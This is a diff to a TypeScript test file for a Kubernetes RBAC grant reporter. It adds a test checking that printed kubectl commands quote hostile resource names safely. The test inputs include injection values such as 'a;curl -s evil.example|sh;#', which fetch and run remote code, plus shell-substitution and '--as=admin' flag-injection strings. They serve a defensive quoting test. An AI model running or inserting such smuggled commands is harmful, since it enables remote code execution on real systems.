@@ -73,9 +73,22 @@ describe('grants to ServiceAccounts of a namespace', () => {
         'RoleBinding reader in namespace infra of context east gives ClusterRole admin in namespace infra to ' +
         'ServiceAccount web of namespace shop. It is outside the namespace and is not copied; if the copy needs it, ' +
         'make the same grant at the destination. Look at it with: kubectl --context east -n infra get ' +
-        'rolebindings.rbac.authorization.k8s.io reader -o yaml',
+        'rolebindings.rbac.authorization.k8s.io/reader -o yaml',
     });
   });
+});
+
+test.each([
+  ['a;curl -s evil.example|sh;#', "'rolebindings.rbac.authorization.k8s.io/a;curl -s evil.example|sh;#'"],
+  ['$(touch x)`y`', "'rolebindings.rbac.authorization.k8s.io/$(touch x)`y`'"],
+  ["it's", "'rolebindings.rbac.authorization.k8s.io/it'\\''s'"],
+  ['--as=admin', 'rolebindings.rbac.authorization.k8s.io/--as=admin'],
+])('S6: the name %s is one word of the printed command, and no flag', (name, word) => {
+  const [grant] = grantsOf([bindingIn('infra', name, [account('web')])], 'shop');
+  if (grant === undefined) throw new Error('no grant found');
+  expect(grantFinding(names, 'rolebindings.rbac.authorization.k8s.io', grant).message).toContain(
+    `kubectl --context east -n infra get ${word} -o yaml`,
+  );
 });
 
 describe('grants that the destination has', () => {
